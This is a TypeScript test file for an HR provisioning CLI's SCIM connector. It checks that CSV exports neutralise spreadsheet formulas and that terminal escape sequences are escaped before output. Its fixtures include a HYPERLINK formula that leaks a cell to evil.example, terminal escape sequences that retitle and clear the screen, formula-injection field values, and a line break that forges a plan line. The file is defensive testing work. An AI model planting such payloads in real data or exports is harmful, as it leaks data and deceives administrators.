/**
 * HR data and server messages crafted for spreadsheets and terminals: formulas in the CSV export
 * are neutralised, control characters never reach the terminal raw, and JSON keeps every value
 * exactly.
 *
 * One plan and one apply for the file (one create fails with a hostile `detail`); the tests read
 * their output and the log.
 */
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import type { RequestHandler } from 'express'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { SandboxServer } from '../../main/connectors/scim/sandbox/sandbox-server'
import type { CliResult } from '../helpers/cli-harness'
import {
  baseJob,
  isCreateOf,
  parseScimJson,
  person,
  startTarget,
  Workspace,
} from '../helpers/provisioning-fixture'

const ESC = '\u001b'
const CSI = '\u009b'
/** Retitles the window, clears the screen, and writes red text (OSC, CSI, SGR; C0 and C1 forms). */
const TERMINAL_ATTACK = `${ESC}]0;pwned\u0007${ESC}[2J${CSI}31m`
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
/** A server error whose detail is a formula followed by terminal escapes. */
const HOSTILE_DETAIL = `${FORMULA} ${TERMINAL_ATTACK}denied`

const FAILING_MAIL = 'mallory@example.com'
const PEOPLE = [
  person('+2001', 'Plus', 'Start', { mail: `=1+2@example.com`, title: `+SUM(1;2)` }),
  person('-2002', 'Minus', 'Start', { mail: `-2+3@example.com`, title: `${TERMINAL_ATTACK}Engineer` }),
  person('@2003', 'At', 'Start', { mail: `@SUM(A1)@example.com` }),
  person('=2004', 'Tab', 'Start', { mail: `\tTab@example.com` }),
  person('2005', 'Carriage', 'Return', { mail: `\rcr@example.com` }),
  // A line break in a name must not fake a line of the plan.
  person('2006', 'New', 'Line', { mail: `eve${ESC}[1A@example.com\n+ create   root@example.com` }),
  person('2007', 'Mallory', 'Fails', { mail: FAILING_MAIL }),
]

const failCreate: RequestHandler = (req, res, next) => {
  if (!isCreateOf(req, FAILING_MAIL)) {
    next()
    return
  }
  res
    .status(400)
    .type('application/scim+json')
    .send(
      JSON.stringify({
        schemas: ['urn:ietf:params:scim:api:messages:2.0:Error'],
        status: '400',
        scimType: 'invalidValue',
        detail: HOSTILE_DETAIL,
      })
    )
}

/** C0 controls except the line feed, DEL and C1 controls: none may reach a terminal raw. */
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/

let server: SandboxServer
let dir: string
let ws: Workspace
let plan: CliResult
let apply: CliResult
let runId: string

beforeAll(async () => {
  server = await startTarget({ middleware: [parseScimJson, failCreate] })
  dir = mkdtempSync(join(tmpdir(), 'provisioner-hostile-'))
  ws = new Workspace({ dir })
  ws.writePeople(PEOPLE)
  ws.writeJob(baseJob(server.baseUrl))
  plan = await ws.cli(['plan', '--job', 'job.json'])
  apply = await ws.cli(['apply', '--job', 'job.json', '--yes'])
  runId = (await ws.logs(['--status', 'failure']))[0]?.runId ?? ''
})

afterAll(async () => {
  await server.close()
  rmSync(dir, { recursive: true, force: true })
})

describe('CSV export of the log', () => {
  it('neutralises every cell a spreadsheet would read as a formula', async () => {
    const result = await ws.cli(['logs', '--run', runId, '--format', 'csv'])
    expect(result.code, result.stderr).toBe(0)
    const rows = parse(result.stdout, { columns: true }) as Array<Record<string, string>>
    expect(rows).toHaveLength(PEOPLE.length)
    for (const row of rows) {
      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    }
    const bySource = new Map(rows.map(row => [row['sourceId'], row]))
    expect(bySource.get("'+2001")?.['sourceDisplay']).toBe("'=1+2@example.com")
    expect(bySource.get("'-2002")?.['sourceDisplay']).toBe("'-2+3@example.com")
    expect(bySource.get("'@2003")?.['sourceDisplay']).toBe("'@SUM(A1)@example.com")
    expect(bySource.get("'=2004")?.['sourceDisplay']).toBe("'\\tTab@example.com")
    expect(bySource.get('2005')?.['sourceDisplay']).toBe("'\\rcr@example.com")
    expect(bySource.get('2007')?.['scimDetail']).toMatch(/^'=HYPERLINK\(/)
  })

  it('quotes every text cell, so a spreadsheet splitting on another delimiter cannot start a cell inside it', async () => {
    const result = await ws.cli(['logs', '--run', runId, '--format', 'csv'])
    const [header] = result.stdout.split('\n')
    expect(header).toMatch(/^"time","runId","changeId",/)
    const line = result.stdout.split('\n').find(text => text.includes('2001'))
    expect(line).toContain(`"'+2001","'=1+2@example.com"`)
  })
})

describe('control characters', () => {
  it('never reach the terminal raw from plan, apply, logs or errors', async () => {
    expect(plan.code, plan.stderr).toBe(0)
    expect(apply.code, apply.stderr).toBe(1)
    const table = await ws.cli(['logs', '--run', runId])
    const csv = await ws.cli(['logs', '--run', runId, '--format', 'csv'])
    const explain = await ws.cli(['apply', '--job', 'job.json', '--only=-2002', '--explain'])
    const failing = await ws.cli(['apply', '--job', 'job.json', '--only', '2007', '--explain'])
    expect(explain.stdout, explain.stderr).toContain('\\u001b]0;pwned')
    expect(failing.stdout).toContain('\\u009b31mdenied')
    for (const output of [plan, apply, table, csv, explain, failing]) {
      expect(output.stdout).not.toMatch(RAW_CONTROL)
      expect(output.stderr).not.toMatch(RAW_CONTROL)
    }
    // Escaped, so the admin still sees what the data holds.
    expect(plan.stdout).toContain('\\u001b[1A@example.com')
    expect(apply.stdout).toContain('\\u001b]0;pwned\\u0007\\u001b[2J\\u009b31mdenied')
  })

  it('cannot fake a line of output with a line break in the data', () => {
    const lines = plan.stdout.split('\n')
    expect(lines.filter(line => line.includes('root@example.com'))).toEqual([
      expect.stringContaining('eve\\u001b[1A@example.com\\n+ create   root@example.com'),
    ])
    expect(lines.some(line => /^\s*\+ create\s+root@example.com/.test(line))).toBe(false)
  })

  it('are escaped in JSON Lines and --json output, which still parse to the exact values', async () => {
    const jsonl = await ws.cli(['logs', '--run', runId, '--format', 'jsonl'])
    expect(jsonl.stdout).not.toMatch(RAW_CONTROL)
    const entries = jsonl.stdout
      .trim()
      .split('\n')
      .map(line => JSON.parse(line) as { sourceId: string; scimDetail: string | null; sourceDisplay: string })
    expect(entries.map(entry => entry.sourceId).sort()).toEqual(PEOPLE.map(row => row.employeeId).sort())
    expect(entries.find(entry => entry.sourceId === '2007')?.scimDetail).toContain(TERMINAL_ATTACK)
    expect(entries.find(entry => entry.sourceId === '+2001')?.sourceDisplay).toBe('=1+2@example.com')

    const planJson = await ws.cli(['plan', '--job', 'job.json', '--json'])
    expect(planJson.stdout).not.toMatch(RAW_CONTROL)
    const parsed = JSON.parse(planJson.stdout) as { operations: Array<{ display: string }> }
    expect(parsed.operations.map(operation => operation.display)).toContain(FAILING_MAIL)
  })
})
